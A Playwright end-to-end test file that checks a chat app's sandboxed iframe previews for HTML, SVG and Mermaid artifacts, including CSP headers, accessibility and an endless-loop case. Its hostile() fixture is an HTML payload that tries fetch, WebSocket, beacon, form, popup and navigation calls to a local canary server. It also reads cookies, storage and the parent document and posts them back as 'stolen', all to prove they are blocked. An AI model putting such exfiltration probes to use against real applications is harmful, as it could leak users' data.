import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { Aimock, type AimockFixture } from '../helpers/aimock.js';
import { api, BackendProcess } from '../helpers/backend-process.js';
import { assertAccessible } from './axe.js';
import { buildRenderer, launchChromium, screenshot, watchErrors } from './browser.js';
import { apiAs, mockProvider, pageCredential } from './chat-page-kit.js';
import { renderScript } from '../../app/main/preview-window-policy.js';

const LONG = 60_000;

const CHART =
  'A chart:\n\n```html\n<!doctype html><html><body><h1 id="t">Sales</h1><canvas id="c" width="200" height="80"></canvas>' +
  '<script>const g = document.getElementById("c").getContext("2d"); g.fillStyle = "#4f46e5"; g.fillRect(10, 10, 120, 60);' +
  ' document.getElementById("t").textContent = "Sales " + (6 * 7);</script></body></html>\n```\n';
const ICON =
  'An icon:\n\n```svg\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><circle cx="32" cy="32" r="28" fill="teal"/></svg>\n```\n';
const FLOW = 'A diagram:\n\n```mermaid\nflowchart LR\n  Start --> Check{Valid?}\n  Check -->|yes| Done\n  Check -->|no| Start\n```\n';
const BROKEN = 'A broken diagram:\n\n```mermaid\nflowchart LR\n  A --> --> B ((\n```\n';
const WHOLE = '<!doctype html>\n<html><head><title>Whole</title></head><body><p id="w">whole document</p></body></html>';
const LOOP =
  'A loop:\n\n```html\n<p>spinning</p><script>parent.postMessage({ spinning: true }, "*"); setTimeout(() => { for (;;) {} }, 50);</script>\n```\n';

/** Every way out of the frame that the issue names, each result posted back to the app. */
function hostile(canary: string): string {
  const ws = canary.replace('http:', 'ws:');
  return (
    'Hostile:\n\n```html\n<!doctype html><html><head><meta http-equiv="refresh" content="1;url=' +
    canary +
    '/refresh">' +
    '<link rel="stylesheet" href="' +
    canary +
    '/css"></head><body><h1>hostile</h1><img src="' +
    canary +
    '/img">' +
    '<form id="f" method="POST" action="' +
    canary +
    '/form"><input name="x" value="1"></form><script>\n' +
    'const out = {};\n' +
    'const t = (name, f) => { try { out[name] = String(f()); } catch (e) { out[name] = "blocked " + e.name; } };\n' +
    't("fetch", () => fetch("' +
    canary +
    '/fetch").then(() => "sent", () => "failed"));\n' +
    't("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", "' +
    canary +
    '/xhr"); x.send(); return "sent"; });\n' +
    't("ws", () => new WebSocket("' +
    ws +
    '/ws").url);\n' +
    't("beacon", () => navigator.sendBeacon("' +
    canary +
    '/beacon", "x"));\n' +
    't("form", () => document.getElementById("f").submit());\n' +
    't("open", () => window.open("' +
    canary +
    '/open"));\n' +
    't("top", () => { top.location.href = "' +
    canary +
    '/top"; return "set"; });\n' +
    't("parentDocument", () => parent.document.title);\n' +
    't("parentStorage", () => parent.localStorage.length);\n' +
    't("localStorage", () => localStorage.length);\n' +
    't("sessionStorage", () => sessionStorage.length);\n' +
    't("cookie", () => document.cookie);\n' +
    't("indexedDB", () => indexedDB.open("x"));\n' +
    't("download", () => { const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.txt"; a.click(); return "clicked"; });\n' +
    't("origin", () => origin);\n' +
    'parent.postMessage({ type: "size", height: "huge" }, "*");\n' +
    'parent.postMessage({ stolen: out }, "*");\n' +
    'setTimeout(() => { location.href = "' +
    canary +
    '/self"; }, 200);\n' +
    '</script></body></html>\n```\n'
  );
}

describe('artifacts: html, svg and Mermaid previews in a powerless frame', { timeout: 300_000 }, () => {
  let proc: BackendProcess;
  let mock: Aimock;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let errors: string[];
  let canary: http.Server;
  let canaryUrl = '';
  let call: ReturnType<typeof apiAs>;
  let workspaceId = '';
  const hits: string[] = [];
  const requested: string[] = [];
  const popups: string[] = [];
  const downloads: string[] = [];

  const conversation = () => page.getByRole('region', { name: 'Conversation' });
  const send = async (text: string) => {
    const box = page.getByRole('textbox', { name: /Message|消息/ });
    await box.fill(text);
    await box.press('Enter');
    const reply = conversation().locator(`xpath=(//article[@aria-label='You' or @aria-label='你'])[last()]/following::article[1]`);
    await reply.locator('.md').first().waitFor({ timeout: LONG });
    await page.getByRole('button', { name: /^(Send|发送)$/ }).waitFor({ timeout: LONG });
    return reply;
  };

  before(async () => {
    canary = http.createServer((req, res) => {
      hits.push(`${req.method} ${req.url}`);
      res.end('canary');
    });
    canary.on('upgrade', (req, socket) => {
      hits.push(`UPGRADE ${req.url}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
    canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
    const fixtures: AimockFixture[] = [
      { match: { userMessage: 'chart please' }, response: { content: CHART } },
      { match: { userMessage: 'icon please' }, response: { content: ICON } },
      { match: { userMessage: 'diagram please' }, response: { content: FLOW } },
      { match: { userMessage: 'broken diagram' }, response: { content: BROKEN } },
      { match: { userMessage: 'whole page' }, response: { content: WHOLE } },
      { match: { userMessage: 'loop please' }, response: { content: LOOP } },
      { match: { userMessage: 'hostile please' }, response: { content: hostile(canaryUrl) } },
    ];
    const uiDir = await buildRenderer();
    mock = await Aimock.start(fixtures);
    proc = await BackendProcess.start({ env: { SERVICE_UI_DIR: uiDir }, args: ['-swap-port', 'off'] });
    await proc.waitForLine(/^pairing code: \d{6}/);
    browser = await launchChromium();
    context = await browser.newContext({ viewport: { width: 1280, height: 800 }, locale: 'en-US', acceptDownloads: true });
    page = await context.newPage();
    context.on('page', (p) => popups.push(p.url()));
    errors = watchErrors(page);
    page.on('request', (r) => requested.push(new URL(r.url()).pathname));
    page.on('download', (d) => downloads.push(d.suggestedFilename()));
    await page.goto(proc.url + '/');
    await page.getByLabel('Pairing code').fill(proc.pairingCode()!);
    await page.getByRole('button', { name: 'Pair', exact: true }).click();
    await page.getByRole('heading', { name: 'Chat', level: 1 }).waitFor();
    call = apiAs(proc.url, await pageCredential(page));
    await call('POST', '/api/config/providers', mockProvider(mock.url, { context_window: 32000 }));
    await call('PUT', '/api/config/defaults', { provider: 'mock', model: 'm1' });
    workspaceId = (await call('POST', '/api/workspaces', { name: 'Artifacts' })).id;
    await page.reload();
    await page.getByRole('button', { name: 'New chat' }).first().click();
  });

  after(async () => {
    await browser?.close();
    await proc?.stop();
    proc?.cleanup();
    await mock?.stop();
    canary?.close();
  });

  it('the preview page has its own no-network, sandboxing CSP; the app page keeps its strict one', async () => {
    const preview = await api(proc.url, 'GET', '/preview.html');
    const csp = preview.headers.get('content-security-policy') ?? '';
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /sandbox allow-scripts(;|$)/);
    assert.doesNotMatch(csp, /allow-same-origin|connect-src|'self' /);
    const app = (await api(proc.url, 'GET', '/')).headers.get('content-security-policy') ?? '';
    assert.match(app, /script-src 'self';/);
    assert.doesNotMatch(app, /unsafe-inline|unsafe-eval/);
  });

  it('an html block shows Code first, then runs in the frame on Preview; download and copy work', async () => {
    const reply = await send('chart please');
    await reply.locator('code', { hasText: 'getContext' }).waitFor();
    assert.equal(await reply.locator('iframe').count(), 0, 'code until the user asks for the preview');
    await reply.getByRole('button', { name: 'Preview' }).click();
    const frame = reply.locator('iframe.preview-frame');
    assert.equal(await frame.getAttribute('sandbox'), 'allow-scripts');
    await page.frameLocator('iframe.preview-frame').last().getByRole('heading', { name: 'Sales 42' }).waitFor({ timeout: LONG });
    assert.equal(await reply.locator('code', { hasText: 'getContext' }).count(), 0);
    const [file] = await Promise.all([page.waitForEvent('download'), reply.getByRole('button', { name: 'Download' }).click()]);
    assert.equal(file.suggestedFilename(), 'artifact.html');
    await reply.getByRole('button', { name: 'Copy code' }).click();
    await screenshot(page, 'artifact-html-1280');
  });

  it('svg previews, and the whole-HTML-document reply gets the switch too', async () => {
    const icon = await send('icon please');
    await icon.getByRole('button', { name: 'Preview' }).click();
    await page.frameLocator('iframe.preview-frame').last().locator('svg circle').waitFor({ timeout: LONG });
    const whole = await send('whole page');
    await whole.getByRole('button', { name: 'Preview' }).click();
    await page.frameLocator('iframe.preview-frame').last().getByText('whole document').waitFor({ timeout: LONG });
  });

  it('Mermaid loads on first use, draws in a sandboxed frame, parses its library once, and a broken diagram shows its error and code', async () => {
    assert.ok(!requested.some((p) => /mermaid/.test(p)), 'Mermaid is not part of the first load');
    const reply = await send('diagram please');
    await reply.getByRole('button', { name: 'Preview' }).click();
    const inside = page.frameLocator('iframe.preview-frame').last();
    await inside.locator('svg').getByText('Valid?').waitFor({ timeout: LONG });
    assert.ok(requested.some((p) => /\/assets\/mermaid[\w.-]*\.js$/.test(p)));
    assert.equal(await page.locator('.md svg').count(), 0, "Mermaid's SVG never enters the app's page");
    await screenshot(page, 'artifact-mermaid-1280');
    const broken = await send('broken diagram');
    await broken.getByRole('button', { name: 'Preview' }).click();
    await broken.getByRole('alert').filter({ hasText: 'The diagram could not be drawn' }).waitFor({ timeout: LONG });
    await broken.locator('code', { hasText: 'A --> --> B' }).waitFor();
    await screenshot(page, 'artifact-mermaid-error-1280');
    // Both diagrams went through one hidden diagram host: the library is fetched and parsed once.
    assert.equal(requested.filter((p) => /\/assets\/mermaid[\w.-]*\.js$/.test(p)).length, 1, 'the library is fetched once');
    const host = page.locator('iframe[data-diagram-host]');
    assert.equal(await host.count(), 1, 'one diagram host frame');
    assert.equal(await host.getAttribute('sandbox'), 'allow-scripts', 'the host is as powerless as a preview');
  });

  it('opens full size in a dialog that passes axe', async () => {
    const reply = conversation().getByRole('article', { name: 'Assistant' }).filter({ hasText: 'A diagram:' });
    await reply.getByRole('button', { name: 'Open full size' }).click();
    const dialog = page.getByRole('dialog', { name: 'Preview of the mermaid block' });
    await dialog.frameLocator('iframe').locator('svg').getByText('Valid?').waitFor({ timeout: LONG });
    await assertAccessible(page, 'full-size preview');
    await screenshot(page, 'artifact-full-size-1280');
    await dialog.getByRole('button', { name: 'Close' }).click();
    await dialog.waitFor({ state: 'hidden' });
    await assertAccessible(page, 'previews in the chat');
  });

  it('hostile HTML reaches nothing: no request, no popup, no download, the app unchanged', async () => {
    const storage = await page.evaluate('JSON.stringify(Object.entries(localStorage).filter(([k]) => k !== "artifact-previews"))');
    const url = page.url();
    const title = await page.title();
    await page.evaluate(
      `window.__stolen = []; addEventListener('message', (e) => { if (e.data && e.data.stolen) window.__stolen.push(e.data.stolen); });`,
    );
    const reply = await send('hostile please');
    await reply.getByRole('button', { name: 'Preview' }).click();
    await page.waitForFunction(() => (globalThis as any).__stolen.length > 0, undefined, { timeout: LONG });
    const stolen = (await page.evaluate('window.__stolen[0]')) as Record<string, string>;
    for (const key of ['parentDocument', 'parentStorage', 'localStorage', 'sessionStorage', 'cookie', 'indexedDB']) {
      assert.match(stolen[key] ?? '', /^blocked/, `${key}: ${stolen[key]}`);
    }
    assert.equal(stolen.origin, 'null');
    // Give every attempt (the 1 s refresh, the self-navigation) time to be refused, then look.
    await reply.getByRole('button', { name: 'Code', exact: true }).click();
    await reply.getByRole('button', { name: 'Preview' }).click();
    await page.waitForFunction(() => (globalThis as any).__stolen.length > 1, undefined, { timeout: LONG });
    await new Promise((r) => setTimeout(r, 1500));
    assert.deepEqual(hits, []);
    assert.deepEqual(popups, []);
    assert.deepEqual(downloads, ['artifact.html'], 'only the download the user clicked');
    assert.equal(page.url(), url);
    assert.equal(await page.title(), title);
    const after = await page.evaluate('JSON.stringify(Object.entries(localStorage).filter(([k]) => k !== "artifact-previews"))');
    assert.equal(after, storage);
    assert.deepEqual(errors, []);
  });

  it('the desktop full-size window’s page: shows what the window posts to itself, opaque and offline', async () => {
    // What app/main/preview-window.ts does: the preview page loaded on its own in a session of its
    // own, the artifact handed over by the window's own script (renderScript). Electron's
    // navigation and window rules on top are tested as plain modules (test/app/preview-window.test.ts).
    const own = await browser.newContext({ viewport: { width: 1000, height: 760 } });
    try {
      const win = await own.newPage();
      await win.goto(proc.url + '/preview.html');
      const code =
        '<!doctype html><html><body><h1>full size</h1><img src="' +
        canaryUrl +
        '/win-img"><script>' +
        'const out = [];' +
        'try { window.open("' +
        canaryUrl +
        '/win-open"); } catch (e) {}' +
        'try { localStorage.length; out.push("storage read"); } catch (e) {}' +
        'fetch("' +
        canaryUrl +
        '/win-fetch").catch(() => undefined).finally(() => { document.body.dataset.done = String(out.length === 0); });' +
        '</script></body></html>';
      await win.evaluate(renderScript({ kind: 'html', code, title: 'Preview' }));
      await win.getByRole('heading', { name: 'full size' }).waitFor({ timeout: LONG });
      await win.locator('body[data-done]').waitFor({ timeout: LONG });
      assert.equal(await win.locator('body').getAttribute('data-done'), 'true', 'no storage in the window either');
      assert.equal(await win.evaluate('origin'), 'null', 'an opaque origin without a frame around it');
      assert.deepEqual(hits, [], 'no request reached the network');
      assert.equal(own.pages().length, 1, 'no popup');
      // A Mermaid diagram arrives as the SVG text the diagram host drew.
      const diagram = await own.newPage();
      await diagram.goto(proc.url + '/preview.html');
      const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><text x="4" y="24">Drawn</text></svg>';
      await diagram.evaluate(renderScript({ kind: 'diagram', code: svg, title: 'Preview' }));
      await diagram.locator('.preview-diagram svg').getByText('Drawn').waitFor({ timeout: LONG });
    } finally {
      await own.close();
    }
  });

  it('an endless loop in a preview never freezes the chat, and is stopped', async () => {
    await page.evaluate(
      `window.__spin = false; addEventListener('message', (e) => { if (e.data && e.data.spinning) window.__spin = true; });`,
    );
    const reply = await send('loop please');
    await reply.getByRole('button', { name: 'Preview' }).click();
    await page.waitForFunction(() => (globalThis as any).__spin === true, undefined, { timeout: LONG });
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.click();
    await page.keyboard.type('still typing');
    assert.equal(await box.inputValue(), 'still typing');
    await reply.getByRole('status').filter({ hasText: 'stopped responding' }).waitFor({ timeout: LONG });
    await box.fill('');
  });

  it('previews come back after a reload; the Markdown export keeps the blocks as code', async () => {
    await page.reload();
    await page.locator('.session-pick').first().click();
    await screenshot(page, 'artifact-after-reload-1280');
    // The last reply (the endless loop) was left on Preview: it runs again, until it is stopped again.
    const loopReply = conversation().getByRole('article', { name: 'Assistant' }).last();
    // (Its document cannot be read while it spins: the frame, or the notice that it was stopped, tells.)
    await loopReply.locator('iframe.preview-frame, .preview-stopped').first().waitFor({ timeout: LONG });
    assert.equal(await loopReply.getByRole('button', { name: 'Preview' }).getAttribute('aria-pressed'), 'true');
    const sessions = await call('GET', `/api/workspaces/${workspaceId}/sessions`);
    const md = (await call('GET', `/api/workspaces/${workspaceId}/sessions/${sessions.sessions[0].id}/export?format=md`)) as string;
    assert.ok(md.includes('```mermaid\nflowchart LR'), md.slice(0, 400));
    assert.ok(md.includes('```svg\n<svg'));
  });

  it('in Chinese the switch and the frame speak Chinese', async () => {
    await page.getByLabel('Language').selectOption('zh');
    await page.getByRole('button', { name: '预览' }).first().waitFor();
    const loopReply = page.getByRole('article').last();
    await loopReply.getByRole('status').filter({ hasText: '预览已无响应' }).waitFor({ timeout: LONG });
    await loopReply.getByRole('button', { name: '重新运行' }).click();
    await loopReply.locator('iframe[title="html 代码块的预览"]').waitFor({ timeout: LONG });
    await assertAccessible(page, 'previews in Chinese');
    await screenshot(page, 'artifact-zh-1280');
    await page.getByLabel('语言').selectOption('en');
  });
});
